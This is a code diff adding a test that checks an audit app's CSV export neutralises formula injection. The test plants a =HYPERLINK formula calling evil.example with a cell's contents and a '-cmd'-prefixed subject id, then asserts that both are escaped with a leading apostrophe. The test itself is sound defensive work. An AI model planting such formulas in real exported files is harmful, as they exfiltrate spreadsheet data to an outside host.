@@ -1,5 +1,7 @@
 from __future__ import annotations
 
+import csv
+import io
 import json
 import re
 from datetime import UTC, datetime, timedelta
@@ -184,3 +186,16 @@ def test_an_erased_receipt_page_says_so_and_still_proves_inclusion(auditor, app)
     assert "Not applicable: the personal fields were erased" in page
     assert "Its leaf hash stays in the log." in page
     assert "position 0 in the signed tree of 1 receipts" in page
+
+
+def test_the_csv_export_defuses_a_hostile_controller_and_subject(app: Flask, client) -> None:
+    make_site(controller='=HYPERLINK("https://evil.example/?"&A1,"Open")')
+    make_record(KEY, subject_id="-cmdabcdefghijklmnop")
+    seal_all(app)
+    auditor = sign_in(client, make_user("auditor"))
+    text = auditor.get("/audit/export.csv?until=9999-12-31", buffered=True).get_data(True)
+    row = next(r for r in csv.DictReader(io.StringIO(text)) if r["type"] == "receipt")
+    assert row["controller"] == """'=HYPERLINK("https://evil.example/?"&A1,"Open")"""
+    assert row["subject_id"] == "'-cmdabcdefghijklmnop"
+    # The claims cell still holds the exact signed bytes, which start with "{".
+    assert json.loads(row["claims"])["subject_id"] == "-cmdabcdefghijklmnop"
